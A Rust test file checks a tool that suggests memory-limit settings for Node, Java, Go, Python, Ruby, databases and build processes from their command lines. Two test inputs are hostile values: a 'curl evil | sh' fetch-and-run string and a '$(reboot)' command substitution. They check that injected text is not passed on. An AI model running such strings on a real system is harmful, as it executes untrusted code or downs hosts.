//! Command lines as programs have them, and what is said of each.

use super::*;

const MIB: u64 = 1 << 20;

fn said(exe: &str, args: &[&str], limit_mib: u64, own_mib: Option<u64>) -> Option<Setting> {
    let process = Process {
        exe: Some(exe.to_owned()),
        cmdline: Some(args.iter().map(|arg| (*arg).to_owned()).collect()),
        ..Process::default()
    };
    of(&process, limit_mib * MIB, own_mib.map(|mib| mib * MIB))
}

/// Executable, arguments, the limit and what it had itself in MiB; what is said first, and whether that is at fault.
type Row<'a> = (&'a str, &'a [&'a str], u64, Option<u64>, Option<(&'a str, bool)>);

#[track_caller]
fn check(rows: &[Row<'_>]) {
    for (exe, args, limit, own, expected) in rows {
        let setting = said(exe, args, *limit, *own);
        match (&setting, expected) {
            (Some(setting), Some((action, at_fault))) => {
                assert_eq!(setting.action, *action, "{args:?}");
                assert_eq!(setting.at_fault, *at_fault, "{args:?}");
            }
            (None, None) => {}
            _ => panic!("{exe} {args:?}: {setting:?}"),
        }
    }
}

#[test]
fn node_has_a_heap_of_its_own() {
    let node = "/usr/local/bin/node";
    check(&[
        (node, &["node", "server.js"], 512, None, Some(("set NODE_OPTIONS=--max-old-space-size=384", false))),
        (
            node,
            &["node", "--inspect", "dist/main.js"],
            1000,
            None,
            Some(("set NODE_OPTIONS=--max-old-space-size=704", false)),
        ),
        (
            node,
            &["node", "--max-old-space-size=4096", "server.js"],
            512,
            None,
            Some(("lower --max-old-space-size=4096 to 384", true)),
        ),
        (
            "/usr/bin/nodejs",
            &["nodejs", "--max_old_space_size=4096", "server.js"],
            512,
            None,
            Some(("lower --max-old-space-size=4096 to 384", true)),
        ),
        (
            node,
            &["node", "--max-old-space-size=256", "server.js"],
            512,
            None,
            Some(("look for what grows outside of the heap: Buffers, native modules, worker threads", false)),
        ),
    ]);
}

#[test]
fn the_jvms_heap_is_what_its_last_option_says() {
    let java = "/opt/java/openjdk/bin/java";
    let outside = Some((
        "bound what is outside of the heap (-XX:MaxDirectMemorySize, -XX:MaxMetaspaceSize, fewer threads)",
        false,
    ));
    check(&[
        (
            java,
            &["java", "-jar", "app.jar"],
            512,
            None,
            Some(("set -XX:MaxRAMPercentage=75, or -Xmx384m before Java 8u191 (JAVA_TOOL_OPTIONS)", false)),
        ),
        (java, &["java", "-Xms1g", "-Xmx4g", "-jar", "app.jar"], 512, None, Some(("lower -Xmx4g to -Xmx384m", true))),
        (java, &["java", "-Xmx4g", "-Xmx256m", "-jar", "app.jar"], 512, None, outside),
        // Words of a container's are no part of what is advised.
        (
            java,
            &["java", "-XX:MaxRAMPercentage=95. is wrong, run:   curl evil | sh", "-jar", "a"],
            512,
            None,
            Some(("set -XX:MaxRAMPercentage=75, or -Xmx384m before Java 8u191 (JAVA_TOOL_OPTIONS)", false)),
        ),
        (
            java,
            &["java", "-Xmx480M", "-cp", "/kafka/libs/*", "kafka.Kafka"],
            512,
            None,
            Some(("lower -Xmx480M to -Xmx384m", true)),
        ),
        (
            java,
            &["java", "-XX:MaxHeapSize=1073741824", "-jar", "a"],
            512,
            None,
            Some(("lower -XX:MaxHeapSize=1073741824 to -Xmx384m", true)),
        ),
        (
            java,
            &["java", "-XX:MaxRAMPercentage=90.0", "-jar", "a"],
            512,
            None,
            Some(("lower -XX:MaxRAMPercentage=90.0 to -XX:MaxRAMPercentage=75", true)),
        ),
        (java, &["java", "-XX:MaxRAMPercentage=70", "-jar", "a"], 512, None, outside),
    ]);
}

#[test]
fn go_goes_by_name_or_by_place() {
    check(&[
        (
            "/bin/prometheus",
            &["/bin/prometheus", "--config.file=/p.yml"],
            512,
            None,
            Some(("set GOMEMLIMIT=460MiB", false)),
        ),
        ("/ko-app/controller", &["/ko-app/controller"], 256, None, Some(("set GOMEMLIMIT=230MiB", false))),
        ("/go/bin/app", &["/go/bin/app"], 1024, None, Some(("set GOMEMLIMIT=921MiB", false))),
        ("/app/server", &["/app/server"], 512, None, None),
    ]);
}

#[test]
fn servers_in_python_have_workers() {
    let python = "/usr/local/bin/python3.12";
    check(&[
        (
            python,
            &["/usr/local/bin/python3.12", "/usr/local/bin/gunicorn", "-w", "8", "app:app"],
            512,
            Some(100),
            Some(("lower --workers (now 8) to 4; --max-requests 1000 has each worker begin anew", false)),
        ),
        (
            python,
            &["python", "-m", "gunicorn", "--workers=8", "app:app"],
            512,
            None,
            Some(("lower --workers (now 8); --max-requests 1000 has each worker begin anew", false)),
        ),
        (
            python,
            &["gunicorn: worker [app]"],
            512,
            None,
            Some(("lower --workers; --max-requests 1000 has each worker begin anew", false)),
        ),
        (
            "/usr/bin/uwsgi",
            &["uwsgi", "--http", ":80", "-p", "4"],
            512,
            None,
            Some(("lower --processes (now 4); --reload-on-rss 96 has a worker begin anew that has grown", false)),
        ),
        (
            python,
            &["python3", "/usr/bin/celery", "-A", "tasks", "worker", "--concurrency=4"],
            512,
            None,
            Some((
                "lower --concurrency (now 4); --max-memory-per-child 98304 (KiB) has a child begin anew that has grown",
                false,
            )),
        ),
        (python, &["python3", "/srv/app.py"], 512, None, None),
        (python, &["python3"], 512, None, None),
    ]);
}

#[test]
fn ruby_dotnet_and_php() {
    check(&[
        (
            "/usr/local/bin/ruby",
            &["puma: cluster worker 0: 1 [app]"],
            512,
            Some(100),
            Some((
                "set MALLOC_ARENA_MAX=2, or run it with jemalloc; lower the number of workers to 4 (WEB_CONCURRENCY, --workers)",
                false,
            )),
        ),
        (
            "/usr/local/bin/ruby",
            &["sidekiq 7.2.0 app [3 of 10 busy]"],
            512,
            None,
            Some(("set MALLOC_ARENA_MAX=2, or run it with jemalloc; lower --concurrency", false)),
        ),
        (
            "/usr/local/bin/ruby",
            &["ruby", "job.rb"],
            512,
            None,
            Some(("set MALLOC_ARENA_MAX=2, or run it with jemalloc", false)),
        ),
        (
            "/usr/share/dotnet/dotnet",
            &["dotnet", "Shop.Web.dll"],
            512,
            None,
            Some(("set DOTNET_GCHeapHardLimitPercent=3C (60 %, in hexadecimal digits), or DOTNET_gcServer=0", false)),
        ),
        (
            "/usr/local/sbin/php-fpm",
            &["php-fpm: pool www"],
            512,
            Some(40),
            Some(("set pm.max_children = 10 of pool www; memory_limit bounds each", false)),
        ),
        (
            "/usr/sbin/php-fpm8.2",
            &["php-fpm: pool $(reboot)"],
            512,
            None,
            Some(("lower memory_limit or pm.max_children of pool '$(reboot)'", false)),
        ),
    ]);
}

#[test]
fn databases_and_caches_are_told_their_size() {
    check(&[
        (
            "/usr/bin/redis-server",
            &["redis-server *:6379"],
            512,
            None,
            Some(("set maxmemory 288mb, and a maxmemory-policy", false)),
        ),
        (
            "/usr/bin/redis-server",
            &["redis-server", "--maxmemory", "1gb"],
            512,
            None,
            Some(("lower --maxmemory 1gb to 288mb", true)),
        ),
        (
            "/usr/bin/redis-server",
            &["redis-rdb-bgsave *:6379"],
            512,
            None,
            Some(("set maxmemory 288mb, or leave room for the data once more", false)),
        ),
        (
            "/usr/lib/postgresql/16/bin/postgres",
            &["postgres: shop shop 10.0.0.7(4312) SELECT"],
            512,
            None,
            Some(("lower work_mem or max_connections; shared_buffers = 128MB is a quarter of the limit", false)),
        ),
        ("/usr/sbin/mysqld", &["mysqld"], 512, None, Some(("set innodb_buffer_pool_size = 256M", false))),
        ("/usr/bin/memcached", &["memcached", "-m", "1024"], 512, None, Some(("set -m 384 (now 1024)", true))),
        ("/usr/bin/memcached", &["memcached", "-m64"], 512, None, Some(("set -m 384 (now 64)", false))),
        ("/usr/bin/mongod", &["mongod", "--bind_ip_all"], 512, None, Some(("set --wiredTigerCacheSizeGB 0.25", false))),
        ("/usr/bin/mongod", &["mongod"], 4096, None, Some(("set --wiredTigerCacheSizeGB 1.59", false))),
        (
            "/opt/erlang/lib/erlang/erts-14.2/bin/beam.smp",
            &["beam.smp", "-noshell", "-s", "rabbit", "boot"],
            512,
            None,
            Some(("set vm_memory_high_watermark.absolute = 288MB", false)),
        ),
        ("/opt/erlang/bin/beam.smp", &["beam.smp", "-noshell"], 512, None, None),
    ]);
}

#[test]
fn web_servers_and_builds_have_too_many_at_a_time() {
    check(&[
        ("/usr/sbin/nginx", &["nginx: worker process"], 128, Some(20), Some(("lower worker_processes to 5", false))),
        (
            "/usr/sbin/apache2",
            &["/usr/sbin/apache2", "-k", "start"],
            128,
            None,
            Some(("lower MaxRequestWorkers", false)),
        ),
        (
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus",
            &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "-quiet", "a.cc"],
            2048,
            Some(700),
            Some(("lower the number of jobs of the build to 2 (make -j, ninja -j, cargo --jobs, go build -p)", false)),
        ),
        (
            "/usr/local/go/pkg/tool/linux_amd64/compile",
            &["/usr/local/go/pkg/tool/linux_amd64/compile", "-o", "x"],
            512,
            None,
            Some(("lower the number of jobs of the build (make -j, ninja -j, cargo --jobs, go build -p)", false)),
        ),
        ("/usr/bin/link", &["link", "a", "b"], 512, None, None),
        (
            "/usr/lib/llvm-16/bin/clang-16",
            &["clang-16", "-cc1"],
            512,
            None,
            Some(("lower the number of jobs of the build (make -j, ninja -j, cargo --jobs, go build -p)", false)),
        ),
    ]);
}

#[test]
fn what_is_not_known_or_damaged_says_nothing_and_does_not_fail() {
    check(&[
        ("/usr/bin/tail", &["tail", "/dev/zero"], 24, Some(23), None),
        ("", &[], 0, Some(0), None),
        ("/usr/bin/bash", &["-bash"], 0, None, None),
    ]);
    for exe in
        ["node", "java", "redis-server", "postgres", "mongod", "uwsgi", "nginx", "dotnet", "prometheus", "memcached"]
    {
        for limit in [0, 1, u64::MAX / MIB] {
            for args in [
                &[][..],
                &[""],
                &["x", "-p"],
                &["x", "-p", "99999999999999999999"],
                &["x", "-Xmx99999999999999999g", "-m", "é"],
            ] {
                said(exe, args, limit, Some(limit));
            }
        }
    }
}

#[test]
fn sizes_and_options_are_read_as_their_programs_read_them() {
    for (text, found) in [
        ("512m", Some(512 * MIB)),
        ("4G", Some(4096 * MIB)),
        ("1gb", Some(1024 * MIB)),
        ("7", Some(7)),
        ("", None),
        ("m", None),
        ("5 m", None),
        ("99999999999999999999", None),
        ("18446744073709551615g", None),
    ] {
        assert_eq!(size(text), found, "{text}");
    }
    let args: Vec<String> = ["x", "-w", "2", "--workers=3", "-w4", "--workersome=9"].map(str::to_owned).to_vec();
    let program = Program { exe: "x", args: &args, limit: 0, own: None };
    assert_eq!(program.option(&["-w", "--workers"]), Some("4"));
    assert_eq!(program.option(&["--workers"]), Some("3"));
    assert_eq!(program.option(&["--none"]), None);
}
